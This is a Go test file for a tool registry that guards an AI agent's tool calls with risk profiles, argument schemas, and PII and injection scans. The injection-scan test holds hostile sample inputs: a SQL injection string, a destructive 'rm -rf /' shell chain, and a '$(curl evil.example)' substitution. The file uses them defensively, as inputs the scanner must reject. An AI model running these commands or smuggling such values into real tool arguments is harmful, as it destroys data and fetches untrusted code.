package registry

import (
	"encoding/json"
	"testing"

	"github.com/triage-ai/execplane/policy"
)

func TestRegister_AndGet(t *testing.T) {
	r := New()
	err := r.Register(ToolProfile{
		ToolName:     "transfer_funds",
		Criticality:  policy.CriticalityHigh,
		Irreversible: true,
		Regulatory:   true,
		RiskTier:     "HIGH",
	})
	if err != nil {
		t.Fatal(err)
	}

	p := r.Get("transfer_funds")
	if p == nil {
		t.Fatal("expected profile")
	}
	if p.Criticality != policy.CriticalityHigh || !p.Irreversible {
		t.Fatalf("unexpected profile %+v", p)
	}
}

func TestRegister_IdempotentReplace(t *testing.T) {
	r := New()
	if err := r.Register(ToolProfile{ToolName: "t", Criticality: policy.CriticalityLow}); err != nil {
		t.Fatal(err)
	}
	if err := r.Register(ToolProfile{ToolName: "t", Criticality: policy.CriticalityHigh}); err != nil {
		t.Fatal(err)
	}
	if got := r.Get("t").Criticality; got != policy.CriticalityHigh {
		t.Fatalf("expected replacement to win, got %s", got)
	}
}

func TestRegister_RejectsEmptyName(t *testing.T) {
	r := New()
	if err := r.Register(ToolProfile{}); err == nil {
		t.Fatal("expected error for empty tool name")
	}
}

func TestResolve_UnknownDefaultsMedium(t *testing.T) {
	r := New()
	p := r.Resolve("never_registered")
	if p == nil {
		t.Fatal("expected default profile")
	}
	if p.Criticality != policy.CriticalityMedium {
		t.Fatalf("unknown tools default to MEDIUM, got %s", p.Criticality)
	}
	if p.RequireToken {
		t.Fatal("default profile must not require tokens")
	}
	if !p.ScanPII || !p.ScanInjection {
		t.Fatal("unregistered tools get both content scans")
	}
}

func TestValidateArgs_Schema(t *testing.T) {
	r := New()
	schema := json.RawMessage(`{
		"type": "object",
		"required": ["amount", "to"],
		"properties": {
			"amount": {"type": "number", "exclusiveMinimum": 0},
			"to": {"type": "string", "minLength": 1}
		}
	}`)
	if err := r.Register(ToolProfile{
		ToolName:    "transfer_funds",
		Criticality: policy.CriticalityHigh,
		ArgsSchema:  schema,
	}); err != nil {
		t.Fatal(err)
	}

	p := r.Get("transfer_funds")
	if err := p.ValidateArgs(map[string]any{"amount": 100, "to": "acct_123"}); err != nil {
		t.Fatalf("valid args rejected: %v", err)
	}
	if err := p.ValidateArgs(map[string]any{"amount": -5, "to": "acct_123"}); err == nil {
		t.Fatal("expected rejection for negative amount")
	}
	if err := p.ValidateArgs(map[string]any{"to": "acct_123"}); err == nil {
		t.Fatal("expected rejection for missing amount")
	}
}

func TestValidateArgs_NoSchemaAcceptsAnything(t *testing.T) {
	r := New()
	if err := r.Register(ToolProfile{ToolName: "t"}); err != nil {
		t.Fatal(err)
	}
	if err := r.Get("t").ValidateArgs(map[string]any{"anything": true}); err != nil {
		t.Fatal(err)
	}
	// Unregistered default profile likewise.
	if err := r.Resolve("other").ValidateArgs(nil); err != nil {
		t.Fatal(err)
	}
}

func TestValidateArgs_PIIScan(t *testing.T) {
	r := New()
	if err := r.Register(ToolProfile{ToolName: "export_data", ScanPII: true}); err != nil {
		t.Fatal(err)
	}
	p := r.Get("export_data")

	cases := []struct {
		name string
		args map[string]any
	}{
		{"ssn", map[string]any{"note": "ssn is 123-45-6789"}},
		{"card", map[string]any{"note": "pay with 4111-1111-1111-1111"}},
		{"email", map[string]any{"contact": "alice@example.com"}},
		{"phone", map[string]any{"contact": "call 555-123-4567"}},
	}
	for _, c := range cases {
		if err := p.ValidateArgs(c.args); err == nil {
			t.Fatalf("%s: expected rejection", c.name)
		}
	}

	if err := p.ValidateArgs(map[string]any{"note": "quarterly export"}); err != nil {
		t.Fatalf("clean args rejected: %v", err)
	}
}

func TestValidateArgs_InjectionScan(t *testing.T) {
	r := New()
	if err := r.Register(ToolProfile{ToolName: "run_query", ScanInjection: true}); err != nil {
		t.Fatal(err)
	}
	p := r.Get("run_query")

	cases := []struct {
		name string
		args map[string]any
	}{
		{"sql", map[string]any{"q": "SELECT secret FROM credentials WHERE 1=1"}},
		{"shell chain", map[string]any{"path": "/tmp; rm -rf /"}},
		{"substitution", map[string]any{"name": "$(curl evil.example)"}},
		{"backticks", map[string]any{"name": "`id`"}},
	}
	for _, c := range cases {
		if err := p.ValidateArgs(c.args); err == nil {
			t.Fatalf("%s: expected rejection", c.name)
		}
	}

	if err := p.ValidateArgs(map[string]any{"q": "weekly revenue by region"}); err != nil {
		t.Fatalf("clean args rejected: %v", err)
	}
}

func TestValidateArgs_ScansAreOptInForRegistered(t *testing.T) {
	r := New()
	// A registered notification tool legitimately carries email addresses.
	if err := r.Register(ToolProfile{ToolName: "send_email"}); err != nil {
		t.Fatal(err)
	}
	if err := r.Get("send_email").ValidateArgs(map[string]any{"to": "ops@example.com"}); err != nil {
		t.Fatalf("registered tool without scans must accept: %v", err)
	}
}

func TestRegister_RejectsBadSchema(t *testing.T) {
	r := New()
	err := r.Register(ToolProfile{
		ToolName:   "t",
		ArgsSchema: json.RawMessage(`{"type": 42}`),
	})
	if err == nil {
		t.Fatal("expected schema compile error")
	}
}
